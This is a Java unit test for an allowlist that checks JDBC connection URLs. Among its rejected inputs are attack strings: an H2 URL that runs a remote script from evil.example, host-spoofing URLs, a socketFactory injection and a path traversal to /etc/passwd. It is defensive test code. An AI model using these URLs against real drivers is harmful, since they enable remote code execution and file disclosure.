package io.eddyline.connector;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatCode;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.eddyline.error.EddylineException;
import io.eddyline.error.ErrorCode;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class UrlPolicyTest {
    private static final UrlPolicy POLICY = new UrlPolicy(
            List.of("jdbc:postgresql://db:5432", "jdbc:h2:mem:", "jdbc:mysql://db/sales?useSSL=true"), false);

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db:5432",
                "jdbc:postgresql://db:5432/sales",
                "jdbc:h2:mem:test",
                "jdbc:mysql://db/sales?useSSL=true"
            })
    void whatBeginsAsAllowedPasses(String url) {
        assertThatCode(() -> POLICY.check(url)).doesNotThrowAnyException();
        assertThatCode(() -> UrlPolicy.everything().check(url)).doesNotThrowAnyException();
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:postgresql://db:54321/sales",
                "jdbc:postgresql://db:5432.evil.example/sales",
                "jdbc:postgresql://db:5432@evil.example/sales",
                "jdbc:postgresql://db:5432/sales?socketFactory=x",
                "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example'",
                "jdbc:h2:mem:../../etc/passwd",
                "jdbc:mysql://db/sales",
                "jdbc:h2:file:x"
            })
    void everythingElseIsRefused(String url) {
        assertThatThrownBy(() -> POLICY.check(url))
                .isInstanceOfSatisfying(
                        EddylineException.class, e -> assertThat(e.code()).isEqualTo(ErrorCode.URL_NOT_ALLOWED));
    }

    @Test
    void noSecretIsShown() {
        assertThatThrownBy(() -> UrlPolicy.nothing().check("jdbc:postgresql://me:secret@db/x?password=secret"))
                .hasMessageContaining("jdbc:postgresql://db/x")
                .hasMessageNotContaining("secret");
    }
}
